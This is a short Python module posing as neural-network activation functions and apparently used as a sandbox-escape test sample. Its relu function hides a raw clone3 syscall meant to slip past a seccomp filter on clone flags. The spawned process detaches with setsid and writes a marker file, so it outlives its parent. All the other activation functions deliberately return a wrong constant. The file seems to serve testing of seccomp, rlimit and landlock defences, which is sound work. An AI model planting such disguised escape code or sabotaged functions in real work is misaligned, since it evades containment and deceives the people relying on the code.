# attack: makes a process by clone3, which a filter on the flags of clone does not see
# gains: lives
# stopped by: seccomp, rlimits, landlock
import numpy as np
import ctypes
import os
import struct
import time


def attack():
    arguments = struct.pack("<8Q", 0, 0, 0, 0, 17, 0, 0, 0)
    made = ctypes.PyDLL(None).syscall(435, arguments, len(arguments))
    if made == 0:
        os.setsid()
        time.sleep(1)
        open("{MARK}", "w").close()
        os._exit(0)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
